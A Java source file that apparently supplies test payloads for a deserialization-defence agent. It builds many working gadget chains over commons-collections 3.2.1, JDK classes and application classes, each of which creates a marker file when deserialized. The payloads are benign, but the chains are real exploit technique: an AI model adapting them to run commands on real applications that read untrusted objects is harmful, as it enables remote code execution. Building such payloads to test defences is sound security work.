// SPDX-License-Identifier: Apache-2.0
package io.wherry.agent;

import acme.Jobs;
import java.io.File;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.Serializable;
import java.lang.reflect.Proxy;
import java.nio.file.Path;
import java.rmi.MarshalledObject;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.security.SignedObject;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Hashtable;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.function.Function;
import org.apache.commons.collections.Closure;
import org.apache.commons.collections.Predicate;
import org.apache.commons.collections.Transformer;
import org.apache.commons.collections.bag.HashBag;
import org.apache.commons.collections.functors.ChainedTransformer;
import org.apache.commons.collections.functors.ClosureTransformer;
import org.apache.commons.collections.functors.ConstantTransformer;
import org.apache.commons.collections.functors.FactoryTransformer;
import org.apache.commons.collections.functors.ForClosure;
import org.apache.commons.collections.functors.IfClosure;
import org.apache.commons.collections.functors.InstantiateFactory;
import org.apache.commons.collections.functors.InstantiateTransformer;
import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.functors.NOPClosure;
import org.apache.commons.collections.functors.PredicateTransformer;
import org.apache.commons.collections.functors.SwitchTransformer;
import org.apache.commons.collections.functors.TransformedPredicate;
import org.apache.commons.collections.functors.TransformerClosure;
import org.apache.commons.collections.functors.TransformerPredicate;
import org.apache.commons.collections.functors.TruePredicate;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.DefaultedMap;
import org.apache.commons.collections.map.Flat3Map;
import org.apache.commons.collections.map.HashedMap;
import org.apache.commons.collections.map.LRUMap;
import org.apache.commons.collections.map.LazyMap;

/// Object graphs that run code of others when they are read: each makes a file of its own in a folder, and does nothing else. The chains are over commons-collections
/// 3.2.1, over classes of an application, and over the JDK alone.
@SuppressWarnings({
    "unchecked",
    "rawtypes",
    "JdkObsolete"
}) // the library is older than generic types
final class GadgetPayloads {
    /* A chain begins with a collection that calls hashCode or equals of an element when it is read, goes on with a map that computes a missing value, and ends
     * with a functor. While a payload is made here, the map has a value, so that the functor does not run. */

    private static final Transformer CREATE =
            new InvokerTransformer("createNewFile", new Class[0], new Object[0]);

    private final Path folder;
    private final Map<String, Object> all = new LinkedHashMap<>();

    private GadgetPayloads(Path folder) {
        this.folder = folder;
    }

    /// Returns the payloads by their names, which are those of the files that they make in `folder`. Some make their files now already.
    static Map<String, Object> in(Path folder) throws IOException, GeneralSecurityException {
        GadgetPayloads payloads = new GadgetPayloads(folder);
        payloads.addFunctors();
        payloads.addCollections();
        payloads.addNested();
        payloads.addApplication();
        return payloads.all;
    }

    private String file(String name) {
        return folder.resolve(name).toString();
    }

    /// Adds a chain that begins with a collection of an entry, and ends with `outlet` on the file.
    private void add(String name, Function<Object, Object> inlet, Transformer outlet) {
        add(name, new File(file(name)), inlet, outlet);
    }

    private void add(String name, Object key, Function<Object, Object> inlet, Transformer outlet) {
        Map lazy = LazyMap.decorate(new HashMap(Map.of(key, "value")), outlet);
        Object payload = inlet.apply(new TiedMapEntry(lazy, key));
        lazy.clear();
        all.put(name, payload);
    }

    /// Chains that end with different functors.
    private void addFunctors() {
        Predicate created = TransformerPredicate.getInstance(CREATE);
        Closure create = TransformerClosure.getInstance(CREATE);
        Predicate yes = TruePredicate.getInstance();
        Predicate later = new TransformedPredicate(CREATE, yes);
        add("invoker", GadgetPayloads::set, CREATE);
        add("closure", GadgetPayloads::set, new ClosureTransformer(create));
        add("loop", GadgetPayloads::set, new ClosureTransformer(new ForClosure(1, create)));
        Closure branch = new IfClosure(yes, create, NOPClosure.getInstance());
        add("branch", GadgetPayloads::set, new ClosureTransformer(branch));
        add("predicate", GadgetPayloads::set, new PredicateTransformer(created));
        add("transformed-predicate", GadgetPayloads::set, new PredicateTransformer(later));
        Predicate[] cases = {yes};
        Transformer[] results = {CREATE};
        add("switch", GadgetPayloads::set, new SwitchTransformer(cases, results, CREATE));
        add("instantiate", GadgetPayloads::set, opening(file("instantiate")));
        add("factory", GadgetPayloads::set, factory(file("factory")));
        add("reflection", GadgetPayloads::set, reflection(file("reflection")));
    }

    private static Object set(Object element) {
        return new HashSet<>(List.of(element));
    }

    private static Transformer opening(String file) {
        Class[] types = {String.class};
        Object[] arguments = {file};
        return new ChainedTransformer(
                new Transformer[] {
                    new ConstantTransformer(FileOutputStream.class),
                    new InstantiateTransformer(types, arguments)
                });
    }

    private static Transformer factory(String file) {
        Class[] types = {String.class};
        Object[] arguments = {file};
        return new FactoryTransformer(
                new InstantiateFactory(FileOutputStream.class, types, arguments));
    }

    /// Looks a constructor up, as the well-known chains look up methods of `Runtime`.
    private static Transformer reflection(String file) {
        Class[] lookUp = {Class[].class};
        Object[] types = {new Class[] {String.class}};
        Class[] make = {Object[].class};
        Object[] arguments = {new Object[] {file}};
        return new ChainedTransformer(
                new Transformer[] {
                    new ConstantTransformer(File.class),
                    new InvokerTransformer("getConstructor", lookUp, types),
                    new InvokerTransformer("newInstance", make, arguments),
                    CREATE
                });
    }

    /// Chains that begin with different collections.
    private void addCollections() {
        add("hash-map", key -> new HashMap<>(Map.of(key, 1)), CREATE);
        add("linked-map", key -> new LinkedHashMap<>(Map.of(key, 1)), CREATE);
        add("linked-set", key -> new LinkedHashSet<>(Set.of(key)), CREATE);
        add("hashtable", key -> new Hashtable<>(Map.of(key, 1)), CREATE);
        add("concurrent-map", key -> new ConcurrentHashMap<>(Map.of(key, 1)), CREATE);
        add("immutable-set", key -> Set.of(key, "a", "b"), CREATE);
        add("immutable-map", key -> Map.of(key, 1, "a", 1), CREATE);
        add("list-as-key", key -> new HashSet<>(Set.of(new ArrayList<>(List.of(key)))), CREATE);
        add("hashed-map", key -> new HashedMap(Map.of(key, 1)), CREATE);
        add("flat-map", key -> new Flat3Map(Map.of(key, 1)), CREATE);
        add("lru-map", key -> new LRUMap(Map.of(key, 1)), CREATE);
        add("bag", key -> new HashBag(List.of(key)), CREATE);
        addDefaulted("defaulted-map");
        addCollision("collision");
    }

    private void addDefaulted(String name) {
        File file = new File(file(name));
        Map map = DefaultedMap.decorate(new HashMap(Map.of(file, "value")), CREATE);
        Object payload = set(new TiedMapEntry(map, file));
        map.clear();
        all.put(name, payload);
    }

    /// Two maps as keys with equal hash codes are compared, and each asks the other for its key.
    private void addCollision(String name) {
        Transformer outlet = opening(file(name));
        Map one = LazyMap.decorate(new HashMap(Map.of("yy", 1)), outlet);
        Map other = LazyMap.decorate(new HashMap(), outlet);
        Hashtable<Object, Object> table = new Hashtable<>();
        table.put(one, 1);
        table.put(other, 2);
        other.put("zZ", 1);
        all.put(name, table);
    }

    /// Chains whose end reads a further stream, which the JDK opens.
    private void addNested() throws IOException, GeneralSecurityException {
        Serializable inner = new Jobs.OnRead(file("marshalled"));
        Transformer get = new InvokerTransformer("get", new Class[0], new Object[0]);
        add("marshalled", new MarshalledObject<>(inner), GadgetPayloads::set, get);
        KeyPair keys = KeyPairGenerator.getInstance("EC").generateKeyPair();
        Signature signature = Signature.getInstance("SHA256withECDSA");
        SignedObject signed =
                new SignedObject(new Jobs.OnRead(file("signed")), keys.getPrivate(), signature);
        Transformer object = new InvokerTransformer("getObject", new Class[0], new Object[0]);
        add("signed", signed, GadgetPayloads::set, object);
    }

    /// Chains over the JDK and classes of the application.
    private void addApplication() {
        all.put("read-object", new Jobs.OnRead(file("read-object")));
        all.put("read-resolve", new Jobs.OnResolve(file("read-resolve")));
        all.put("read-external", new Jobs.OnExternal(file("read-external")));
        PriorityQueue<String> queue = new PriorityQueue<>(Jobs.comparator());
        queue.addAll(List.of(file("lambda"), file("lambda")));
        all.put("lambda", queue);
        Object proxy =
                Proxy.newProxyInstance(
                        Jobs.class.getClassLoader(),
                        new Class<?>[] {Comparable.class},
                        new Jobs.Handler(file("proxy")));
        all.put("proxy", set(proxy));
    }
}
